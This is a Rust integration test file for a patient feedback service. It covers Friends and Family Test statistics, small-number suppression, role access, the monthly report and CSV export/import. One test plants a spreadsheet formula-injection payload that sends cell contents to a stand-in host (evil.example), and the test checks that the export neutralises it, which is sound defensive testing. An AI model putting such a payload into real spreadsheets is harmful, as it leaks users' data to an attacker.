//! Reports through HTTP and the command line: Friends and Family Test
//! statistics and their small-number rule, the roles that may read them, the
//! monthly Board report, and CSV export and import.

use std::path::Path;
use std::process::Output;

use hamlet::staff::model::Role;
use sea_orm::{EntityTrait as _, PaginatorTrait as _};
use serde_json::{Value, json};

use crate::helpers::{Seed, Staff, TestApp, first_error_code, key};

const STATS: &str = "query($filter: StatsFilter, $period: StatsPeriod) {
  feedbackStats(filter: $filter) {
    total suppressed percentPositive percentNegative
    byRating { rating count }
    byService { service { slug } total suppressed percentPositive percentNegative byRating { rating count } }
    byChannel { channel total suppressed percentPositive }
    byPeriod(period: $period) { period start end total suppressed percentPositive }
  }
}";

const QUEUE: &str = "{ feedbackQueue(first: 100) { edges { node { id reference version } } } }";

const MODERATE: &str = "mutation($input: ModerateFeedbackInput!) {
  moderateFeedback(input: $input) { id status version tags }
}";

const AUDIT: &str = "{ auditLog(first: 100) { edges { node { action actor { id } after } } } }";

const ED: &str = "royal-london-emergency-department";
const MATERNITY: &str = "royal-london-maternity";
const GP: &str = "gp-practices";

/// hamlet with room for the many submissions these tests make.
async fn spawn() -> TestApp {
    TestApp::spawn_with(Seed::BuiltIn, |config| config.submit_per_minute = 10_000).await
}

/// Submits `count` responses with this rating; returns their references.
async fn submit(
    app: &TestApp,
    service: &str,
    rating: &str,
    channel: &str,
    count: usize,
) -> Vec<String> {
    let mut references = Vec::new();
    for _ in 0..count {
        references.push(
            app.feedback_reference(json!({
                "idempotencyKey": key(),
                "serviceSlug": service,
                "rating": rating,
                "channel": channel,
            }))
            .await,
        );
    }
    references
}

async fn stats(app: &TestApp, staff: &Staff, filter: Value) -> Value {
    app.data_as(staff, STATS, json!({ "filter": filter })).await["feedbackStats"].clone()
}

fn service_row<'a>(stats: &'a Value, slug: &str) -> &'a Value {
    stats["byService"]
        .as_array()
        .unwrap()
        .iter()
        .find(|row| row["service"]["slug"] == slug)
        .unwrap_or_else(|| panic!("no row for {slug} in {stats}"))
}

fn rating_counts(row: &Value) -> Vec<(String, Value)> {
    row["byRating"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| (r["rating"].as_str().unwrap().to_owned(), r["count"].clone()))
        .collect()
}

/// The moderation queue's rows by reference: (id, version).
async fn queue(app: &TestApp, moderator: &Staff) -> Vec<(String, String, i64)> {
    let body = app.data_as(moderator, QUEUE, json!({})).await;
    body["feedbackQueue"]["edges"]
        .as_array()
        .unwrap()
        .iter()
        .map(|edge| {
            let node = &edge["node"];
            (
                node["reference"].as_str().unwrap().to_owned(),
                node["id"].as_str().unwrap().to_owned(),
                node["version"].as_i64().unwrap(),
            )
        })
        .collect()
}

async fn moderate(app: &TestApp, moderator: &Staff, reference: &str, change: Value) {
    let (_, id, version) = queue(app, moderator)
        .await
        .into_iter()
        .find(|(r, _, _)| r == reference)
        .unwrap();
    let mut input = change;
    input["id"] = json!(id);
    input["expectedVersion"] = json!(version);
    app.data_as(moderator, MODERATE, json!({ "input": input }))
        .await;
}

/// Runs the `hamlet` command line on the app's database, whatever its outcome.
fn hamlet(app: &TestApp, args: &[&str]) -> Output {
    std::process::Command::new(env!("CARGO_BIN_EXE_hamlet"))
        .args(args)
        .env("HAMLET_DATABASE_URL", &app.database_url)
        .env("HAMLET_LOG", "warn")
        .output()
        .unwrap()
}

async fn stored_feedback(app: &TestApp) -> u64 {
    let db = app.db().await;
    let count = hamlet::submissions::entity::feedback::Entity::find()
        .count(&db)
        .await
        .unwrap();
    db.close().await.ok();
    count
}

fn write(dir: &Path, name: &str, contents: &str) -> String {
    let path = dir.join(name);
    std::fs::write(&path, contents).unwrap();
    path.to_str().unwrap().to_owned()
}

fn this_month() -> String {
    chrono::Utc::now().format("%Y-%m").to_string()
}

#[tokio::test]
async fn percentages_follow_nhs_england_leaving_dont_know_out_and_neither_in() {
    let app = spawn().await;
    let analyst = app.staff(&[Role::Analyst]).await;
    for (rating, count) in [
        ("VERY_GOOD", 3),
        ("GOOD", 2),
        ("NEITHER_GOOD_NOR_POOR", 1),
        ("POOR", 1),
        ("VERY_POOR", 1),
        ("DONT_KNOW", 2),
    ] {
        submit(&app, ED, rating, "KIOSK", count).await;
    }
    let stats = stats(&app, &analyst, json!(null)).await;
    assert_eq!(stats["total"], 10);
    assert_eq!(stats["suppressed"], false);
    // (3 + 2) / (10 − 2) and (1 + 1) / (10 − 2).
    assert_eq!(stats["percentPositive"], 62.5);
    assert_eq!(stats["percentNegative"], 25.0);
    assert_eq!(
        rating_counts(&stats),
        [
            ("VERY_GOOD".to_owned(), json!(3)),
            ("GOOD".to_owned(), json!(2)),
            ("NEITHER_GOOD_NOR_POOR".to_owned(), json!(1)),
            ("POOR".to_owned(), json!(1)),
            ("VERY_POOR".to_owned(), json!(1)),
            ("DONT_KNOW".to_owned(), json!(2)),
        ]
    );
    let ed = service_row(&stats, ED);
    assert_eq!(ed["total"], 10);
    assert_eq!(ed["percentPositive"], 62.5);
    let kiosk = &stats["byChannel"]
        .as_array()
        .unwrap()
        .iter()
        .find(|row| row["channel"] == "KIOSK")
        .unwrap();
    assert_eq!(kiosk["total"], 10);
    assert_eq!(kiosk["percentPositive"], 62.5);
    let month = &stats["byPeriod"][0];
    assert_eq!(month["period"], this_month());
    assert_eq!(month["total"], 10);
    assert_eq!(month["percentPositive"], 62.5);
}

#[tokio::test]
async fn a_service_with_three_responses_is_withheld_and_one_with_five_is_shown() {
    let app = spawn().await;
    let analyst = app.staff(&[Role::Analyst]).await;
    submit(&app, MATERNITY, "VERY_POOR", "WEB", 3).await;
    submit(&app, GP, "GOOD", "WEB", 4).await;
    submit(&app, GP, "POOR", "WEB", 1).await;

    let all = stats(&app, &analyst, json!(null)).await;
    let maternity = service_row(&all, MATERNITY);
    assert_eq!(maternity["total"], 3, "the number of responses is shown");
    assert_eq!(maternity["suppressed"], true);
    assert!(maternity["percentPositive"].is_null());
    assert!(maternity["percentNegative"].is_null());
    assert!(
        rating_counts(maternity)
            .iter()
            .all(|(_, count)| count.is_null()),
        "{maternity}"
    );
    let gp = service_row(&all, GP);
    assert_eq!(gp["total"], 5);
    assert_eq!(gp["suppressed"], false);
    assert_eq!(gp["percentPositive"], 80.0);
    assert_eq!(gp["percentNegative"], 20.0);
    // A service with no responses shows zeros, not a withheld row.
    let ed = service_row(&all, ED);
    assert_eq!(ed["total"], 0);
    assert_eq!(ed["suppressed"], false);
    assert!(ed["percentPositive"].is_null(), "nobody rated");
    assert!(rating_counts(ed).iter().all(|(_, count)| *count == 0));

    // The whole is withheld too when it is a small number.
    let only = stats(&app, &analyst, json!({ "serviceSlug": MATERNITY })).await;
    assert_eq!(only["total"], 3);
    assert_eq!(only["suppressed"], true);
    assert!(only["percentNegative"].is_null());
    assert!(only["byRating"][4]["count"].is_null());
    assert_eq!(only["byPeriod"][0]["suppressed"], true);
}

#[tokio::test]
async fn feedback_marked_spam_is_left_out_of_statistics() {
    let app = spawn().await;
    let moderator = app.staff(&[Role::Moderator]).await;
    let references = submit(&app, GP, "VERY_POOR", "WEB", 2).await;
    submit(&app, GP, "VERY_GOOD", "WEB", 5).await;
    assert_eq!(stats(&app, &moderator, json!(null)).await["total"], 7);

    for reference in &references {
        moderate(&app, &moderator, reference, json!({ "status": "SPAM" })).await;
    }
    let stats = stats(&app, &moderator, json!(null)).await;
    assert_eq!(stats["total"], 5);
    assert_eq!(stats["percentPositive"], 100.0);
    assert_eq!(stats["percentNegative"], 0.0);
    assert_eq!(service_row(&stats, GP)["total"], 5);
}

#[tokio::test]
async fn filters_narrow_statistics_by_service_channel_and_time() {
    let app = spawn().await;
    let analyst = app.staff(&[Role::Analyst]).await;
    submit(&app, GP, "GOOD", "WEB", 5).await;
    submit(&app, GP, "POOR", "PAPER", 5).await;
    submit(&app, ED, "VERY_GOOD", "KIOSK", 6).await;

    let gp = stats(&app, &analyst, json!({ "serviceSlug": GP })).await;
    assert_eq!(gp["total"], 10);
    assert_eq!(gp["percentPositive"], 50.0);
    let listed: Vec<&Value> = gp["byService"]
        .as_array()
        .unwrap()
        .iter()
        .map(|row| &row["service"]["slug"])
        .collect();
    assert_eq!(listed, [GP], "only the service asked for");

    let paper_or_kiosk = stats(&app, &analyst, json!({ "channel": ["PAPER", "KIOSK"] })).await;
    assert_eq!(paper_or_kiosk["total"], 11);
    let channels: Vec<&Value> = paper_or_kiosk["byChannel"]
        .as_array()
        .unwrap()
        .iter()
        .map(|row| &row["channel"])
        .collect();
    assert_eq!(channels, ["KIOSK", "PAPER"]);

    let now = chrono::Utc::now();
    let hour = chrono::Duration::hours(1);
    let window = |from: chrono::DateTime<chrono::Utc>, to: chrono::DateTime<chrono::Utc>| json!({ "receivedFrom": from.to_rfc3339(), "receivedTo": to.to_rfc3339() });
    assert_eq!(
        stats(&app, &analyst, window(now - hour, now + hour)).await["total"],
        16
    );
    let earlier = stats(&app, &analyst, window(now - hour * 24 * 70, now - hour)).await;
    assert_eq!(earlier["total"], 0);
    assert!(earlier["percentPositive"].is_null());
    let months = earlier["byPeriod"].as_array().unwrap();
    assert!(
        (3..=4).contains(&months.len()),
        "every month of the window, empty ones too: {months:?}"
    );
    assert!(months.iter().all(|month| month["total"] == 0));

    let unknown = app
        .graphql_as(
            &analyst,
            STATS,
            json!({ "filter": { "serviceSlug": "no-such-service" } }),
        )
        .await;
    assert_eq!(first_error_code(&unknown), "BAD_USER_INPUT");
    assert_eq!(
        unknown["errors"][0]["extensions"]["field"],
        "filter.serviceSlug"
    );
    let backwards = app
        .graphql_as(
            &analyst,
            STATS,
            json!({ "filter": window(now, now - hour) }),
        )
        .await;
    assert_eq!(first_error_code(&backwards), "BAD_USER_INPUT");
    let ancient = app
        .graphql_as(
            &analyst,
            STATS,
            json!({ "filter": { "receivedTo": "0000-01-01T00:00:00Z" } }),
        )
        .await;
    assert_eq!(first_error_code(&ancient), "BAD_USER_INPUT");
    assert_eq!(
        ancient["errors"][0]["extensions"]["field"],
        "filter.receivedTo"
    );
}

#[tokio::test]
async fn analysts_and_moderators_read_statistics_and_editors_and_strangers_cannot() {
    let app = spawn().await;
    submit(&app, GP, "GOOD", "WEB", 1).await;
    for role in [Role::Analyst, Role::Moderator] {
        let staff = app.staff(&[role]).await;
        assert_eq!(stats(&app, &staff, json!(null)).await["total"], 1);
    }
    let editor = app.staff(&[Role::Editor]).await;
    let body = app.graphql_as(&editor, STATS, json!({})).await;
    assert_eq!(first_error_code(&body), "FORBIDDEN");
    assert!(body["data"].is_null());
    let body = app.graphql(STATS, json!({})).await;
    assert_eq!(first_error_code(&body), "UNAUTHENTICATED");
    assert!(body["data"].is_null());
}

#[tokio::test]
async fn history_imported_from_paper_is_counted_in_the_month_it_was_received() {
    let app = spawn().await;
    let analyst = app.staff(&[Role::Analyst]).await;
    let dir = tempfile::tempdir().unwrap();
    let mut csv = String::from("service,rating,comment,received_at\n");
    // Late on the last day of a month, and early on the first of the next.
    for _ in 0..5 {
        csv.push_str("gp-practices,GOOD,,2026-01-31T23:59:59Z\n");
    }
    for _ in 0..6 {
        csv.push_str("gp-practices,POOR,,2026-02-01T00:00:00Z\n");
    }
    csv.push_str("gp-practices,VERY_GOOD,,2026-04-15\n");
    let file = write(dir.path(), "history.csv", &csv);
    app.cli(&["import", "feedback", "--csv", &file]);

    let filter =
        json!({ "receivedFrom": "2026-01-01T00:00:00Z", "receivedTo": "2026-05-01T00:00:00Z" });
    let months = app
        .data_as(&analyst, STATS, json!({ "filter": filter }))
        .await["feedbackStats"]["byPeriod"]
        .clone();
    let summary: Vec<(Value, Value, Value)> = months
        .as_array()
        .unwrap()
        .iter()
        .map(|m| {
            (
                m["period"].clone(),
                m["total"].clone(),
                m["percentPositive"].clone(),
            )
        })
        .collect();
    assert_eq!(
        summary,
        [
            (json!("2026-01"), json!(5), json!(100.0)),
            (json!("2026-02"), json!(6), json!(0.0)),
            (json!("2026-03"), json!(0), json!(null)),
            (json!("2026-04"), json!(1), json!(null)),
        ]
    );
    assert_eq!(months[3]["suppressed"], true);
    assert_eq!(months[1]["start"], "2026-02-01T00:00:00+00:00");
    assert_eq!(months[1]["end"], "2026-03-01T00:00:00+00:00");

    let quarters = app
        .data_as(
            &analyst,
            STATS,
            json!({ "filter": filter, "period": "QUARTER" }),
        )
        .await["feedbackStats"]["byPeriod"]
        .clone();
    let quarters: Vec<(Value, Value)> = quarters
        .as_array()
        .unwrap()
        .iter()
        .map(|q| (q["period"].clone(), q["total"].clone()))
        .collect();
    assert_eq!(
        quarters,
        [(json!("2026-Q1"), json!(11)), (json!("2026-Q2"), json!(1))]
    );
}

#[tokio::test]
async fn the_monthly_report_is_one_html_file_with_charts_and_the_months_figures_and_no_free_text() {
    let app = spawn().await;
    let moderator = app.staff(&[Role::Moderator]).await;
    let secret = "The porter on ward 9 was called Zebedee";
    for _ in 0..5 {
        app.feedback_reference(json!({
            "idempotencyKey": key(),
            "serviceSlug": GP,
            "rating": "VERY_GOOD",
            "comment": secret,
            "contact": { "email": "ada@example.org", "consentToContact": true },
        }))
        .await;
    }
    let references = submit(&app, GP, "POOR", "PAPER", 5).await;
    submit(&app, MATERNITY, "GOOD", "WEB", 2).await;
    for reference in &references {
        moderate(
            &app,
            &moderator,
            reference,
            json!({ "tags": ["waiting-times"] }),
        )
        .await;
    }

    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("board");
    let month = this_month();
    let printed = app.cli(&["report", "--month", &month, "--out", out.to_str().unwrap()]);
    let path = out.join(format!("feedback-report-{month}.html"));
    assert_eq!(printed.trim(), path.to_str().unwrap());
    let html = std::fs::read_to_string(&path).unwrap();

    assert!(html.starts_with("<!DOCTYPE html>"));
    assert!(html.contains("<svg"), "inline SVG charts");
    assert!(!html.contains("<script"), "no scripts");
    assert!(
        !html.contains("src=\"http") && !html.contains("href=\"http"),
        "nothing fetched"
    );
    assert!(html.contains("Tower Hamlets Together"));
    let name = chrono::Utc::now().format("%B %Y").to_string();
    assert!(html.contains(&name), "the month's name");
    // 12 responses; percent positive 5 / 12 is withheld per service but not
    // overall: 7 of 12 positive is 58%.
    assert!(html.contains(">12<"), "the month's responses");
    assert!(html.contains(">58%<"), "the month's percent positive");
    assert!(html.contains("withheld*"), "maternity had 2 responses");
    assert!(html.contains("waiting-times"), "the month's top theme");
    assert!(html.contains("(very good + good) ÷ (all responses − don’t know) × 100"));
    assert!(!html.contains("Zebedee"), "no free text");
    assert!(!html.contains("ada@example.org"), "no contact details");

    let future = hamlet(
        &app,
        &[
            "report",
            "--month",
            "2999-01",
            "--out",
            out.to_str().unwrap(),
        ],
    );
    assert!(!future.status.success());
    let bad = hamlet(
        &app,
        &[
            "report",
            "--month",
            "May 2026",
            "--out",
            out.to_str().unwrap(),
        ],
    );
    assert!(!bad.status.success());
    assert!(String::from_utf8_lossy(&bad.stderr).contains("YYYY-MM"));
}

#[tokio::test]
async fn the_csv_export_protects_cells_that_spreadsheets_would_run_as_formulas() {
    let app = spawn().await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for your results\")";
    let reference = app
        .feedback_reference(json!({
            "idempotencyKey": key(),
            "serviceSlug": GP,
            "rating": "GOOD",
            "comment": formula,
            "contact": { "email": "ada@example.org", "phone": "07700 900123", "consentToContact": true },
        }))
        .await;
    let plain = app
        .feedback_reference(json!({
            "idempotencyKey": key(),
            "serviceSlug": ED,
            "rating": "POOR",
            "comment": "-2 stars, ring me on 07700 900123",
        }))
        .await;

    let csv = app.cli(&["export", "feedback", "--format", "csv"]);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(
        header,
        [
            "reference",
            "received_at",
            "captured_at",
            "service",
            "rating",
            "comment",
            "channel",
            "locale",
            "status",
            "safeguarding",
            "pii_flags",
            "tags"
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2);
    assert_eq!(&rows[0][0], reference);
    assert_eq!(&rows[0][3], GP);
    assert_eq!(&rows[0][5], format!("'{formula}"));
    assert_eq!(&rows[1][0], plain);
    assert_eq!(&rows[1][5], "'-2 stars, ring me on 07700 900123");
    assert_eq!(&rows[1][10], "PHONE");
    assert!(!csv.contains("ada@example.org"), "no contact details");
    assert!(!csv.contains("07700900123"), "no contact details");

    // The same to a file, and only what was received in the range.
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("feedback.csv");
    app.cli(&["export", "feedback", "--out", file.to_str().unwrap()]);
    assert_eq!(std::fs::read_to_string(&file).unwrap(), csv);
    let none = app.cli(&["export", "feedback", "--to", "2020-01-01"]);
    assert_eq!(none.lines().count(), 1, "the header alone");
    let bad = hamlet(&app, &["export", "feedback", "--from", "yesterday"]);
    assert!(!bad.status.success());
}

/// The export's rows, sorted by reference: order is by arrival, which rows
/// received in the same millisecond may not keep.
fn sorted_rows(csv: &str) -> Vec<Vec<String>> {
    let mut rows: Vec<Vec<String>> = csv::Reader::from_reader(csv.as_bytes())
        .records()
        .map(|row| row.unwrap().iter().map(str::to_owned).collect())
        .collect();
    rows.sort();
    rows
}

#[tokio::test]
async fn exported_feedback_imports_into_a_fresh_app_unchanged() {
    let app = spawn().await;
    let moderator = app.staff(&[Role::Moderator]).await;
    let tagged = app
        .feedback_reference(json!({
            "idempotencyKey": key(),
            "serviceSlug": ED,
            "rating": "VERY_POOR",
            "comment": "=SUM(A1:A9) waited 6 hours,\n\"nobody\" came; my number is 07700 900123",
            "channel": "KIOSK",
            "capturedAt": "2026-01-02T03:04:05.123456Z",
        }))
        .await;
    moderate(
        &app,
        &moderator,
        &tagged,
        json!({ "status": "IN_REVIEW", "tags": ["waiting-times", "communication"] }),
    )
    .await;
    let spam = app
        .feedback_reference(json!({
            "idempotencyKey": key(),
            "serviceSlug": GP,
            "rating": "GOOD",
            "comment": "Buy cheap pills",
        }))
        .await;
    moderate(&app, &moderator, &spam, json!({ "status": "SPAM" })).await;
    app.feedback_reference(json!({
        "idempotencyKey": key(),
        "serviceSlug": MATERNITY,
        "rating": "DONT_KNOW",
        "comment": "আমার নিজেকে শেষ করে দিতে ইচ্ছে করে। I want to end my life",
        "locale": "bn",
    }))
    .await;
    submit(&app, GP, "NEITHER_GOOD_NOR_POOR", "PHONE", 3).await;

    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("export.csv");
    let file = file.to_str().unwrap();
    app.cli(&["export", "feedback", "--out", file]);
    let exported = std::fs::read_to_string(file).unwrap();

    let fresh = spawn().await;
    let printed = fresh.cli(&["import", "feedback", "--csv", file]);
    assert!(printed.contains("imported 6 feedback rows"), "{printed}");
    let again = fresh.cli(&["export", "feedback"]);
    assert_eq!(sorted_rows(&again), sorted_rows(&exported));
    assert!(exported.contains(",false,PHONE,communication;waiting-times"));

    let analyst = app.staff(&[Role::Analyst]).await;
    let fresh_analyst = fresh.staff(&[Role::Analyst]).await;
    assert_eq!(
        stats(&fresh, &fresh_analyst, json!(null)).await,
        stats(&app, &analyst, json!(null)).await
    );
    // Residents' receipts still work after the move.
    let status = fresh
        .data(
            "query($r: String!) { submission(reference: $r) { status } }",
            json!({ "r": tagged }),
        )
        .await;
    assert_eq!(status["submission"]["status"], "IN_REVIEW");
}

#[tokio::test]
async fn importing_the_same_file_twice_adds_nothing() {
    let app = spawn().await;
    let admin = app.staff(&[Role::Admin]).await;
    let dir = tempfile::tempdir().unwrap();
    // Two identical paper forms are two responses.
    let file = write(
        dir.path(),
        "returns.csv",
        "Service,Rating,Comment,Received at\n\
         gp-practices,Very good,Lovely nurse,04/05/2026\n\
         gp-practices,Very good,Lovely nurse,04/05/2026\n\
         district-nursing,Don't know,,2026-05-05 10:30\n\
         district-nursing,Poor,\"Came late, twice\",2026-05-06T08:00:00Z\n",
    );
    let first = app.cli(&["import", "feedback", "--csv", &file]);
    assert!(
        first.contains("imported 4 feedback rows; 0 were already"),
        "{first}"
    );
    assert_eq!(stored_feedback(&app).await, 4);

    let second = app.cli(&["import", "feedback", "--csv", &file]);
    assert!(
        second.contains("imported 0 feedback rows; 4 were already"),
        "{second}"
    );
    assert_eq!(stored_feedback(&app).await, 4);

    // The channel defaults to PAPER; screening ran as for a submission.
    let moderator = app.staff(&[Role::Moderator]).await;
    let stats = stats(&app, &moderator, json!({ "channel": ["PAPER"] })).await;
    assert_eq!(stats["total"], 4);

    let audit = app.data_as(&admin, AUDIT, json!({})).await;
    let imports: Vec<&Value> = audit["auditLog"]["edges"]
        .as_array()
        .unwrap()
        .iter()
        .map(|edge| &edge["node"])
        .filter(|node| node["action"] == "feedback.imported")
        .collect();
    assert_eq!(
        imports.len(),
        1,
        "one audit event, for the import that added rows"
    );
    assert!(imports[0]["actor"].is_null(), "the command line did it");
    let after: Value = match &imports[0]["after"] {
        Value::String(text) => serde_json::from_str(text).unwrap(),
        other => other.clone(),
    };
    assert_eq!(after["rows"], 4);
}

#[tokio::test]
async fn an_import_with_bad_rows_names_each_row_and_column_and_imports_nothing() {
    let app = spawn().await;
    let dir = tempfile::tempdir().unwrap();
    let file = write(
        dir.path(),
        "returns.csv",
        "service,rating,comment,received_at\n\
         gp-practices,GOOD,Fine,2026-05-04\n\
         gp-practices,SUPERB,Fine,2026-05-04\n\
         no-such-service,GOOD,Fine,2026-05-04\n\
         gp-practices,GOOD,Fine,2999-01-01\n\
         gp-practices,GOOD,   ,2026-05-04\n",
    );
    let output = hamlet(&app, &["import", "feedback", "--csv", &file]);
    assert!(!output.status.success());
    let report = String::from_utf8_lossy(&output.stderr);
    assert!(
        report.contains("row 3, column rating: \"SUPERB\" is not a rating"),
        "{report}"
    );
    assert!(
        report.contains("row 4, column service: \"no-such-service\" is not the slug of a service"),
        "{report}"
    );
    assert!(
        report.contains("row 5, column received_at: must not be in the future"),
        "{report}"
    );
    assert!(!report.contains("row 2"), "the good row is fine");
    assert!(!report.contains("row 6"), "a blank comment is no comment");
    assert!(report.contains("3 problem(s)"), "{report}");
    assert!(report.contains("nothing was imported"), "{report}");
    assert_eq!(stored_feedback(&app).await, 0);

    let missing = write(
        dir.path(),
        "missing.csv",
        "service,comment\ngp-practices,Fine\n",
    );
    let output = hamlet(&app, &["import", "feedback", "--csv", &missing]);
    assert!(!output.status.success());
    let report = String::from_utf8_lossy(&output.stderr);
    assert!(
        report.contains("row 1, column rating: is missing"),
        "{report}"
    );
    assert!(
        report.contains("row 1, column received_at: is missing"),
        "{report}"
    );
    assert_eq!(stored_feedback(&app).await, 0);
}
